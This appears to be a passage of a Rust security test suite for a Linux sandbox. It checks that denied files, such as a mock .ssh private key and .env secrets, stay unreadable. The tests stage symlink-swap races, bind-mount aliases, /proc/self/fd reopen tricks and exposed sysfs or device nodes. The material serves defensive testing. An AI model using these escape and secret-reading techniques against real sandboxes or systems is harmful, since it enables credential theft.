        // churner got going), at most 30 spawns or 10 s.
        let at_least = Instant::now() + Duration::from_secs(3);
        let host_before = host_changes.load(Ordering::SeqCst);
        while Instant::now() < end && (ran + failed.len() < 30 || Instant::now() < at_least) {
            match sh(&exec, &d, probe) {
                Ok((0, out)) => {
                    assert_eq!(out, "plain\nmasked\n");
                    ran += 1;
                }
                Ok((code, out)) => panic!("{code}: {out}"),
                Err(e) => failed.push(format!("{e}")),
            }
        }
        let host_during = host_changes.load(Ordering::SeqCst) - host_before;
        stop.store(true, Ordering::SeqCst);
        let host_count = host_churn.join().unwrap();
        let out = churn.join().unwrap();
        let count: u64 = String::from_utf8_lossy(&out.bytes).lines().filter_map(|l| l.trim().parse::<u64>().ok()).sum();
        println!(
            "  {ran} spawns ran, {} failed, while the sandboxed churner made {count} changes and the host {host_count}",
            failed.len()
        );
        assert!(
            count > 2_000 && host_count > 300 && host_during > 100,
            "a churner did not run: {count} {host_count} ({host_during} while the spawns ran)"
        );
        assert!(failed.is_empty(), "spawns failed under a churned parent: {failed:?}");
        assert!(ran >= 5, "too few spawns: {ran}");
    }

    fn in_ms(ms: i64) -> i64 {
        i64::try_from(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_millis()).unwrap() + ms
    }

    /// 3b: a path-read grant's target swapped for a symlink to a host secret in a loop by a
    /// host thread while spawns with fresh tokens run: no spawn ever prints the secret; a swap
    /// is GrantTargetChanged (before building, or after mounting by the init's check).
    /// Positive control: without the swapper every spawn reads the granted file.
    pub fn a_path_grant_target_swapped_in_a_loop_never_binds_another_file() {
        for by_workload in [false, true] {
            grant_swap_loop(false, by_workload);
            grant_swap_loop(true, by_workload);
        }
        // The granted file's directory swapped instead of the file (a directory symlink in an
        // ancestor), by a host thread.
        grant_swap_loop_in(Swap::Ancestor, false);
    }

    #[derive(Clone, Copy, PartialEq, Eq)]
    enum Swap {
        File,
        Tree,
        Ancestor,
    }

    fn grant_swap_loop(tree: bool, by_workload: bool) {
        grant_swap_loop_in(if tree { Swap::Tree } else { Swap::File }, by_workload);
    }

    /// One class of 3b: a path-read grant of a file (`tree` false) or a tree-read grant of a
    /// directory (`tree` true), its target swapped for a symlink to a secret in a loop by a host
    /// thread, or (`by_workload`) by a sandboxed workload of another set that may write the
    /// workspace.
    fn grant_swap_loop_in(swap: Swap, by_workload: bool) {
        let tree = swap == Swap::Tree;
        let d = TestDirs::new("sbx-roots");
        // (the granted target, what the swapper replaces, the symlink's target, the command)
        let (target_path, swapped, secret, cmd) = match swap {
            Swap::Tree => {
                fs::create_dir(d.ws.join("t")).unwrap();
                fs::write(d.ws.join("t/f"), "granted\n").unwrap();
                fs::create_dir(d.root.join("secret-dir")).unwrap();
                fs::write(d.root.join("secret-dir/f"), "SECRET\n").unwrap();
                (d.ws.join("t"), d.ws.join("t"), d.root.join("secret-dir"), "cat t/f")
            }
            Swap::File => {
                fs::write(d.ws.join("f"), "granted\n").unwrap();
                fs::write(d.root.join("secret"), "SECRET\n").unwrap();
                (d.ws.join("f"), d.ws.join("f"), d.root.join("secret"), "cat f")
            }
            Swap::Ancestor => {
                fs::create_dir(d.ws.join("g")).unwrap();
                fs::write(d.ws.join("g/f"), "granted\n").unwrap();
                fs::create_dir(d.root.join("secret-dir")).unwrap();
                fs::write(d.root.join("secret-dir/f"), "SECRET\n").unwrap();
                (d.ws.join("g/f"), d.ws.join("g"), d.root.join("secret-dir"), "cat g/f")
            }
        };
        let profile = Profile::new(ProfileConfig {
            workspace_read: Access::Gated,
            workspace_write: Access::Deny,
            ..config(&d, vec![])
        })
        .unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let target = target_path.display().to_string();
        let (scope, class) = if tree {
            (format!("tree:{target}"), "filesystem.tree.read.v1")
        } else {
            (target.clone(), "filesystem.path.read.v1")
        };
        let token = || {
            exec.issue_grant(
                &dl(),
                &GrantRequest {
                    execution_id: String::from("exec-1"),
                    command: cmd.to_owned(),
                    cwd: d.ws.clone(),
                    kind: String::from("filesystem.read"),
                    scope: scope.clone(),
                    class: class.to_owned(),
                    target: target.clone(),
                    expiry_unix_ms: in_ms(120_000),
                },
            )
            .unwrap()
        };
        let run = |t: String| exec.run_command_with_grants(&dl(), "exec-1", &d.ws, cmd, &[t]);
        // Positive control.
        for _ in 0..3 {
            assert_eq!(run(token()).unwrap().bytes, b"granted\n");
        }
        let tokens: Vec<String> = (0..120).map(|_| token()).collect();
        let stop = Arc::new(AtomicBool::new(false));
        let stop_file = d.ws.join("stop-swapping");
        let swapper = if by_workload {
            let writer = Profile::new(config(&d, vec![])).unwrap();
            let (ws, opts) = (d.ws.clone(), d.set_options(2));
            let args = [swapped.clone(), d.ws.join("aside"), secret.clone(), stop_file.clone()];
            let args: Vec<String> = args.iter().map(|p| p.display().to_string()).collect();
            let handle = std::thread::spawn(move || {
                let set = ExecutorSet::new(&dl(), &writer, opts).unwrap();
                let exec = set.executor("swapper").unwrap();
                let script = "import os, sys, time\n\
                              f, aside, secret, stop = sys.argv[1:5]\n\
                              n = 0\n\
                              while not os.path.exists(stop):\n\
                              \x20   os.rename(f, aside); os.symlink(secret, f); time.sleep(0.0003)\n\
                              \x20   os.unlink(f); os.rename(aside, f); time.sleep(0.0003); n += 1\n\
                              print(n)\n";
                let mut argv = vec![String::from("python3"), String::from("-c"), String::from(script)];
                argv.extend(args);
                let out = exec.run_argv(&sandbox::Deadline::after(Duration::from_secs(120)), &ws, &argv).unwrap();
                assert_eq!(out.status, ExitStatus::Code(0), "{}", String::from_utf8_lossy(&out.bytes));
                String::from_utf8_lossy(&out.bytes).trim().parse::<u64>().unwrap()
            });
            // The loop runs once the target has been moved aside at least once.
            let start = Instant::now();
            while !d.ws.join("aside").exists() && start.elapsed() < Duration::from_secs(30) {
                std::thread::sleep(Duration::from_millis(1));
            }
            std::thread::sleep(Duration::from_millis(200));
            handle
        } else {
            let (stop, f, aside) = (Arc::clone(&stop), swapped.clone(), d.ws.join("aside"));
            std::thread::spawn(move || {
                let mut swaps = 0u64;
                while !stop.load(Ordering::SeqCst) {
                    fs::rename(&f, &aside).unwrap();
                    symlink(&secret, &f).unwrap();
                    std::thread::sleep(Duration::from_micros(300));
                    fs::remove_file(&f).unwrap();
                    fs::rename(&aside, &f).unwrap();
                    std::thread::sleep(Duration::from_micros(300));
                    swaps += 1;
                }
                swaps
            })
        };
        let (mut granted, mut changed_before, mut changed_inside, mut other) = (0, 0, 0, 0);
        let by = match (by_workload, swap) {
            (true, _) => "a sandboxed workload",
            (false, Swap::Ancestor) => "a host thread, in the target's directory",
            (false, _) => "a host thread",
        };
        let end = Instant::now() + Duration::from_secs(25);
        for (i, t) in tokens.into_iter().enumerate() {
            if Instant::now() > end {
                break;
            }
            // Spawns at varying phases of the swap loop.
            std::thread::sleep(Duration::from_micros(150 * (i as u64 % 7)));
            match run(t) {
                Ok(o) => {
                    let text = String::from_utf8_lossy(&o.bytes).into_owned();
                    assert!(!text.contains("SECRET"), "{class}: a spawn read the swapped-in target: {text}");
                    if o.status == ExitStatus::Code(0) {
                        assert_eq!(text, "granted\n");
                        granted += 1;
                    } else {
                        other += 1;
                    }
                }
                Err(Error::GrantTargetChanged { detail }) if detail.contains("identities") => changed_inside += 1,
                Err(Error::GrantTargetChanged { .. }) => changed_before += 1,
                Err(Error::Runtime { detail, .. }) => {
                    assert!(!detail.contains("SECRET"));
                    other += 1;
                }
                Err(e) => panic!("{class}: unexpected: {e:?}"),
            }
        }
        stop.store(true, Ordering::SeqCst);
        fs::write(&stop_file, "").unwrap();
        let swaps = swapper.join().unwrap();
        fs::remove_file(&stop_file).unwrap();
        println!(
            "  {class}, swapped by {by}: {swaps} swaps: {granted} read the granted target, {changed_before} GrantTargetChanged before \
             building, {changed_inside} after mounting (the init's check), {other} failed otherwise (nothing to bind)"
        );
        assert!(changed_before + changed_inside > 0, "the swap never hit a spawn");
        assert_eq!(run(token()).unwrap().bytes, b"granted\n");
    }

    /// Red team F2 (THREAT-MODEL.md, class 1): a read-denied FILE root shown at a second host
    /// path (its directory bound elsewhere inside the workspace, in a private mount namespace of
    /// this process) is unreadable there too, like a denied directory root's mask at an alias.
    /// Before, only directory roots were guarded at aliases: `cat kalias/id` printed the key.
    /// Positive control: the readable file next to it reads through the same alias.
    pub fn a_denied_file_root_is_unreadable_through_a_host_bind_alias() {
        use nix::mount::{MntFlags, MsFlags, mount, umount2};
        use nix::sched::{CloneFlags, setns, unshare};
        if sandbox_tests::rootless_mode() {
            println!(
                "SKIPPED (rootless): making the host alias (a bind mount in a private mount namespace) needs \
                 root; the root run covers it"
            );
            return;
        }
        let d = TestDirs::new("sbx-roots");
        fs::create_dir_all(d.ws.join(".ssh")).unwrap();
        fs::write(d.ws.join(".ssh/id"), "PRIVATE-KEY\n").unwrap();
        fs::write(d.ws.join(".ssh/id.pub"), "PUBLIC\n").unwrap();
        fs::create_dir(d.ws.join("kalias")).unwrap();
        // A private mount namespace for this (the main) thread, so the alias is never seen on
        // the host; the set made below (its helper) starts in it. Restored at the end.
        let host_ns = fs::File::open("/proc/self/ns/mnt").unwrap();
        unshare(CloneFlags::CLONE_NEWNS).unwrap();
        let none = None::<&str>;
        mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none).unwrap();
        mount(Some(&d.ws.join(".ssh")), &d.ws.join("kalias"), none, MsFlags::MS_BIND, none).unwrap();
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let profile =
                Profile::new(config(&d, vec![root(&d.ws.join(".ssh/id"), Access::Deny, Access::Deny)])).unwrap();
            let set = set_of(&d, &profile);
            let exec = set.executor("k").unwrap();
            let out = sh_ok(
                &exec,
                &d,
                &format!(
                    "cat kalias/id.pub && echo controls-ok; {}{}",
                    attempt("direct", "cat .ssh/id"),
                    attempt("alias", "cat kalias/id")
                ),
            );
            assert!(out.starts_with("PUBLIC\ncontrols-ok\n"), "{out}");
            assert!(!out.contains("PRIVATE-KEY"), "the denied file was read: {out}");
            all_failed(&out, &["direct", "alias"]);
        }));
        let _ = umount2(&d.ws.join("kalias"), MntFlags::MNT_DETACH);
        setns(&host_ns, CloneFlags::CLONE_NEWNS).unwrap();
        if let Err(e) = result {
            std::panic::resume_unwind(e);
        }
    }

    /// Issue 16 keeps the host view (the mounts among it) between spawns while the mount table
    /// reads the same: an alias the host mounts between two runs of one executor is guarded at
    /// the second, like one there before the first; and one whose directory is moved (a rename
    /// above it: no mount event) is guarded at its new path at the next compilation (red team
    /// BC, 6 December). Controls: the readable file next to the denied one reads through the
    /// alias, and the first run read it directly.
    pub fn a_host_bind_alias_made_between_two_runs_is_guarded_at_the_second() {
        use nix::mount::{MntFlags, MsFlags, mount, umount2};
        use nix::sched::{CloneFlags, setns, unshare};
        if sandbox_tests::rootless_mode() {
            println!(
                "SKIPPED (rootless): making the host alias (a bind mount in a private mount namespace) needs \
                 root; the root run covers it"
            );
            return;
        }
        let d = TestDirs::new("sbx-roots");
        fs::create_dir_all(d.ws.join(".ssh")).unwrap();
        fs::write(d.ws.join(".ssh/id"), "PRIVATE-KEY\n").unwrap();
        fs::write(d.ws.join(".ssh/id.pub"), "PUBLIC\n").unwrap();
        fs::create_dir(d.ws.join("kalias")).unwrap();
        let host_ns = fs::File::open("/proc/self/ns/mnt").unwrap();
        unshare(CloneFlags::CLONE_NEWNS).unwrap();
        let none = None::<&str>;
        mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none).unwrap();
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let profile =
                Profile::new(config(&d, vec![root(&d.ws.join(".ssh/id"), Access::Deny, Access::Deny)])).unwrap();
            let set = set_of(&d, &profile);
            let exec = set.executor("k").unwrap();
            let first =
                sh_ok(&exec, &d, &format!("cat .ssh/id.pub && echo first-ok; {}", attempt("direct", "cat .ssh/id")));
            assert!(first.starts_with("PUBLIC\nfirst-ok\n"), "{first}");
            all_failed(&first, &["direct"]);
            mount(Some(&d.ws.join(".ssh")), &d.ws.join("kalias"), none, MsFlags::MS_BIND, none).unwrap();
            let out = sh_ok(
                &exec,
                &d,
                &format!("cat kalias/id.pub && echo controls-ok; {}", attempt("alias", "cat kalias/id")),
            );
            assert!(out.starts_with("PUBLIC\ncontrols-ok\n"), "{out}");
            assert!(!out.contains("PRIVATE-KEY"), "the denied file was read through the new alias: {out}");
            all_failed(&out, &["alias"]);
            // The directory above the alias renamed (no mount event: the mount moves with it),
            // then a spawn of another executor of the set (a new compilation): the alias is
            // guarded at its new path (red team BC: it was read there through a kept view).
            fs::create_dir_all(d.ws.join("sub/kalias2")).unwrap();
            mount(Some(&d.ws.join(".ssh")), &d.ws.join("sub/kalias2"), none, MsFlags::MS_BIND, none).unwrap();
            let exec2 = set.executor("k2").unwrap();
            let before = sh_ok(
                &exec2,
                &d,
                &format!("cat sub/kalias2/id.pub && echo before-ok; {}", attempt("sub", "cat sub/kalias2/id")),
            );
            assert!(before.starts_with("PUBLIC\nbefore-ok\n"), "{before}");
            all_failed(&before, &["sub"]);
            fs::rename(d.ws.join("sub"), d.ws.join("moved")).unwrap();
            let exec3 = set.executor("k3").unwrap();
            let out = sh_ok(
                &exec3,
                &d,
                &format!("cat moved/kalias2/id.pub && echo moved-ok; {}", attempt("moved", "cat moved/kalias2/id")),
            );
            assert!(out.starts_with("PUBLIC\nmoved-ok\n"), "{out}");
            assert!(!out.contains("PRIVATE-KEY"), "the denied file was read through the moved alias: {out}");
            all_failed(&out, &["moved"]);
        }));
        let _ = umount2(&d.ws.join("moved/kalias2"), MntFlags::MNT_DETACH);
        let _ = umount2(&d.ws.join("sub/kalias2"), MntFlags::MNT_DETACH);
        let _ = umount2(&d.ws.join("kalias"), MntFlags::MNT_DETACH);
        setns(&host_ns, CloneFlags::CLONE_NEWNS).unwrap();
        if let Err(e) = result {
            std::panic::resume_unwind(e);
        }
    }

    /// A red team (5 December): a denied root's mask covers what was there at spawn. When the
    /// host replaces it during the run (an editor's save of a denied `.env`, a denied directory
    /// removed and made again with a rotated key), the kernel detaches the mask, and the
    /// workload read the new secret (also through a descriptor whose file it then unlinked: the
    /// kernel names it `… (deleted)`), and one the host made during the run where none was at
    /// spawn. With denied roots in a bound area, every open now goes to
    /// the creation guard, which refuses what lies at or beneath a denied root, and refuses
    /// renaming or linking it elsewhere. Controls in the same run: the files beside them read,
    /// python starts (every open it makes is served by the guard), a protected (read-only) file
    /// reads, a new file is written.
    pub fn denied_roots_the_host_replaces_during_a_run_stay_unreadable() {
        let d = TestDirs::new("sbx-roots");
        fs::write(d.ws.join(".env"), "SECRET=old\n").unwrap();
        fs::create_dir_all(d.ws.join("cfg/secrets")).unwrap();
        fs::write(d.ws.join("cfg/secrets/key"), "k=old\n").unwrap();
        fs::write(d.ws.join("cfg/plain"), "plain\n").unwrap();
        fs::write(d.ws.join(".mcp.json"), "{}\n").unwrap();
        let script = r##"
import errno, os, time
open("ready", "w").close()
end = time.time() + 30
while not os.path.exists("done") and time.time() < end:
    time.sleep(0.02)
def read(t):
    with open(t) as f:
        return f.read()
def listing(t):
    return ",".join(sorted(os.listdir(t)))
def chdir_read(t):
    here = os.open(".", os.O_RDONLY)
    try:
        os.chdir(os.path.dirname(t))
        return read(os.path.basename(t))
    finally:
        os.fchdir(here)
def move(t):
    os.rename(t, "moved")
    return read("moved")
def link(t):
    os.link(t, "linked")
    return read("linked")
def reopen(t):
    fd = os.open(t, os.O_PATH)
    return read("/proc/self/fd/%d" % fd)
def reopen_deleted(t):
    fd = os.open(t, os.O_PATH)
    os.unlink(t)
    return read("/proc/self/fd/%d" % fd)
for t, ways in [(".env", [read, reopen, move, link]), ("cfg/secrets/key", [read, chdir_read, reopen, move, link]),
                ("cfg/secrets", [listing, move]), ("cfg", [move]), ("later.secret", [read, reopen]),
                (".env", [reopen_deleted])]:
    for way in ways:
        try:
            print(t, way.__name__, "got", repr(way(t)))
        except OSError as e:
            print(t, way.__name__, errno.errorcode[e.errno])
print("plain", read("cfg/plain").strip())
print("protected", read(".mcp.json").strip())
open("new.txt", "w").write("new")
print("new", read("new.txt"))
"##;
        fs::write(d.ws.join("r.py"), script).unwrap();
        let profile = Profile::new(ProfileConfig {
            host_read: Access::Allow,
            additional_roots: vec![
                root(&d.ws.join(".env"), Access::Deny, Access::Deny),
                root(&d.ws.join("cfg/secrets"), Access::Deny, Access::Deny),
                // Missing at spawn: the host makes it during the run.
                root(&d.ws.join("later.secret"), Access::Deny, Access::Deny),
            ],
            ..config(&d, Vec::new())
        })
        .unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let ws = d.ws.clone();
        let host = std::thread::spawn(move || {
            sandbox_tests::wait_for_marker(&ws.join("ready"));
            fs::write(ws.join(".env.tmp"), "SECRET=rotated\n").unwrap();
            fs::rename(ws.join(".env.tmp"), ws.join(".env")).unwrap();
            fs::remove_dir_all(ws.join("cfg/secrets")).unwrap();
            fs::create_dir(ws.join("cfg/secrets")).unwrap();
            fs::write(ws.join("cfg/secrets/key"), "k=rotated\n").unwrap();
            fs::write(ws.join("later.secret"), "rotated-later\n").unwrap();
            fs::write(ws.join("done"), "").unwrap();
        });
        let out = sh_ok(&exec, &d, "/usr/bin/python3 r.py");
        host.join().unwrap();
        println!("{out}");
        assert!(!out.contains("rotated") && !out.contains("old"), "a denied root was read: {out}");
        assert!(!out.contains(" got "), "{out}");
        assert!(out.contains("plain plain\n") && out.contains("new new\n"), "controls: {out}");
        // A protected file (read-only, not denied) reads through the guard.
        assert!(out.contains("protected {}\n"), "controls: {out}");
        // (`unlink` is not refused: the last way removed the host's `.env`.)
        assert!(d.ws.join("cfg/secrets/key").exists() && !d.ws.join("moved").exists());
        assert!(out.contains(".env reopen_deleted EACCES"), "{out}");
    }

    /// A red team (5 December): host mounts beneath an area (a chroot's `/sys`, `/proc` and `/dev`
    /// bound into the workspace, as debootstrap, sbuild or a Gentoo install do) came along with
    /// the recursive bind of the workspace, and with them the host's devices (`nodev` covered
    /// only the top mount), sysfs, cgroups and tracing: a workload moved itself out of its
    /// cgroups and wrote a host disk. Now every kernel-interface mount a bind brings along is
    /// masked and every bind is `rnodev`/`rnosuid`. Made here in a private mount namespace of
    /// this process: a sysfs and a tmpfs holding a device node (`/dev/null`'s). From inside:
    /// the sysfs shows nothing, the node cannot be opened; controls: the tmpfs's plain file is
    /// read and written. (A procfs beneath an area fails the spawn: the runtime refuses to
    /// prepare such a root, closed.)
    pub fn kernel_mounts_and_device_nodes_beneath_an_area_are_unusable() {
        use nix::mount::{MntFlags, MsFlags, mount, umount2};
        use nix::sched::{CloneFlags, setns, unshare};
        if sandbox_tests::rootless_mode() {
            println!(
                "SKIPPED (rootless): mounting a sysfs, a procfs and a device node needs root; the root run covers it"
            );
            return;
        }
        let d = TestDirs::new("sbx-roots");
        let chroot = d.ws.join("chroot");
        for sub in ["sys", "dev"] {
            fs::create_dir_all(chroot.join(sub)).unwrap();
        }
        let host_ns = fs::File::open("/proc/self/ns/mnt").unwrap();
        unshare(CloneFlags::CLONE_NEWNS).unwrap();
        let none = None::<&str>;
        mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none).unwrap();
        mount(Some("sysfs"), &chroot.join("sys"), Some("sysfs"), MsFlags::empty(), none).unwrap();
        mount(Some("tmpfs"), &chroot.join("dev"), Some("tmpfs"), MsFlags::empty(), Some("mode=755")).unwrap();
        nix::sys::stat::mknod(
            &chroot.join("dev/null"),
            nix::sys::stat::SFlag::S_IFCHR,
            nix::sys::stat::Mode::from_bits_truncate(0o666),
            nix::sys::stat::makedev(1, 3),
        )
        .unwrap();
        fs::write(chroot.join("dev/plain"), "plain\n").unwrap();
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let profile = Profile::new(config(&d, Vec::new())).unwrap();
            let set = set_of(&d, &profile);
            let exec = set.executor("k").unwrap();
            let out = sh_ok(
                &exec,
                &d,
                &format!(
                    "cat chroot/dev/plain && echo more >> chroot/dev/plain && echo sys=$(ls -A chroot/sys | wc -l) \
                     && echo controls-ok; {}{}{}",
                    attempt("node-write", "echo x > chroot/dev/null"),
                    attempt("node-read", "cat chroot/dev/null"),
                    attempt("sys-kernel", "ls chroot/sys/kernel"),
                ),
            );
            assert!(out.starts_with("plain\nsys=0\ncontrols-ok\n"), "{out}");
            all_failed(&out, &["node-write", "node-read", "sys-kernel"]);
            assert_eq!(fs::read_to_string(chroot.join("dev/plain")).unwrap(), "plain\nmore\n");
        }));
        for sub in ["sys", "dev"] {
            let _ = umount2(&chroot.join(sub), MntFlags::MNT_DETACH);
        }
        setns(&host_ns, CloneFlags::CLONE_NEWNS).unwrap();
        if let Err(e) = result {
            std::panic::resume_unwind(e);
        }
    }

    /// 11: a root exactly at a path that is always private inside is refused naming it; a root
    /// under /tmp and under /dev/shm is honoured (positive: readable or masked as configured).
    pub fn roots_at_private_paths_are_refused_and_under_them_honoured() {
        let d = TestDirs::new("sbx-roots");
        for (i, private) in ["/tmp", "/dev/shm", "/dev", "/proc", "/sys", "/run"].into_iter().enumerate() {
            if !Path::new(private).is_dir() {
                continue;
            }
            for (r, w) in [(Access::Allow, Access::Allow), (Access::Deny, Access::Deny)] {
                match Profile::new(config(&d, vec![root(Path::new(private), r, w)])) {
                    Err(Error::InvalidProfile { detail }) => {
                        assert!(
                            detail.contains("additional_roots[0].path") && detail.contains(private),
                            "{i}: {detail}"
                        );
                    }
                    other => panic!("{private}: {other:?}"),
                }
            }
        }
        // Under /tmp and /dev/shm: honoured exactly.
        let tmp = tempfile::Builder::new().prefix("sbx-roots").tempdir_in("/tmp").unwrap();
        let t = fs::canonicalize(tmp.path()).unwrap();
        fs::create_dir_all(t.join("open")).unwrap();
        fs::create_dir_all(t.join("closed")).unwrap();
        fs::write(t.join("open/f"), "open\n").unwrap();
        fs::write(t.join("closed/f"), "closed\n").unwrap();
        let profile = Profile::new(config(
            &d,
            vec![
                root(&t.join("open"), Access::Allow, Access::Allow),
                root(&t.join("closed"), Access::Deny, Access::Deny),
            ],
        ))
        .unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let script = format!(
            "cat {o}/f; echo w > {o}/w && echo open-w; cat {c}/f 2>/dev/null || echo closed-no; \
             echo private > /tmp/p && cat /tmp/p",
            o = t.join("open").display(),
            c = t.join("closed").display()
        );
        assert_eq!(sh_ok(&exec, &d, &script), "open\nopen-w\nclosed-no\nprivate\n");
        // Under /dev/shm: bound over the sandbox's own /dev/shm, as configured.
        if let Ok(shm) = tempfile::Builder::new().prefix("sbx-roots").tempdir_in("/dev/shm") {
            let s = fs::canonicalize(shm.path()).unwrap();
            fs::write(s.join("f"), "in shm\n").unwrap();
            for (r, want) in [(Access::Allow, "in shm\n"), (Access::Deny, "no\n")] {
                let profile = Profile::new(config(&d, vec![root(&s, r, Access::Deny)])).unwrap();
                let set = set_of(&d, &profile);
                let exec = set.executor("k").unwrap();
                let got = sh_ok(&exec, &d, &format!("cat {}/f 2>/dev/null || echo no", s.display()));
                assert_eq!(got, want, "{r:?}");
            }
        } else {
            println!("!!!!!!!! no /dev/shm here: the root-under-/dev/shm control did not run !!!!!!!!");
        }
        assert_eq!(fs::read_to_string(t.join("open/w")).unwrap(), "w\n");
        assert!(!Path::new("/tmp/p").exists() || fs::read_to_string("/tmp/p").unwrap() != "private\n");
    }
}

fn main() -> std::process::ExitCode {
    sandbox::init();
    #[cfg(target_os = "linux")]
    {
        if !sandbox_tests::privileged("linux_roots") {
            return std::process::ExitCode::SUCCESS;
        }
        use linux::*;
        sandbox_tests::run_tests(&[
            (
                "nested_deny_root_cannot_be_moved_away_from_its_name",
                nested_deny_root_cannot_be_moved_away_from_its_name,
            ),
            ("read_only_git_hooks_cannot_be_swapped_or_appended", read_only_git_hooks_cannot_be_swapped_or_appended),
            ("a_replaced_root_fails_the_next_spawn_naming_it", a_replaced_root_fails_the_next_spawn_naming_it),
            ("a_root_through_a_symlink_is_refused", a_root_through_a_symlink_is_refused),
            (
                "a_deny_root_swapped_in_a_loop_during_spawns_is_never_exposed",
                a_deny_root_swapped_in_a_loop_during_spawns_is_never_exposed,
            ),
            (
                "a_deny_root_renamed_away_and_back_during_spawns_is_never_exposed",
                a_deny_root_renamed_away_and_back_during_spawns_is_never_exposed,
            ),
            (
                "protected_directories_moved_to_another_parent_during_a_run_stay_protected",
                protected_directories_moved_to_another_parent_during_a_run_stay_protected,
            ),
            (
                "protections_in_layers_moved_during_a_run_stay_protected",
                protections_in_layers_moved_during_a_run_stay_protected,
            ),
            (
                "a_parent_changed_constantly_by_another_sandbox_does_not_fail_spawns",
                a_parent_changed_constantly_by_another_sandbox_does_not_fail_spawns,
            ),
            (
                "a_path_grant_target_swapped_in_a_loop_never_binds_another_file",
                a_path_grant_target_swapped_in_a_loop_never_binds_another_file,
            ),
            (
                "a_denied_file_root_is_unreadable_through_a_host_bind_alias",
                a_denied_file_root_is_unreadable_through_a_host_bind_alias,
            ),
            (
                "a_host_bind_alias_made_between_two_runs_is_guarded_at_the_second",
                a_host_bind_alias_made_between_two_runs_is_guarded_at_the_second,
            ),
            (
                "denied_roots_the_host_replaces_during_a_run_stay_unreadable",
                denied_roots_the_host_replaces_during_a_run_stay_unreadable,
            ),
            (
                "kernel_mounts_and_device_nodes_beneath_an_area_are_unusable",
                kernel_mounts_and_device_nodes_beneath_an_area_are_unusable,
            ),
            (
                "roots_at_private_paths_are_refused_and_under_them_honoured",
                roots_at_private_paths_are_refused_and_under_them_honoured,
            ),
        ])
    }
    #[cfg(not(target_os = "linux"))]
    std::process::ExitCode::SUCCESS
}
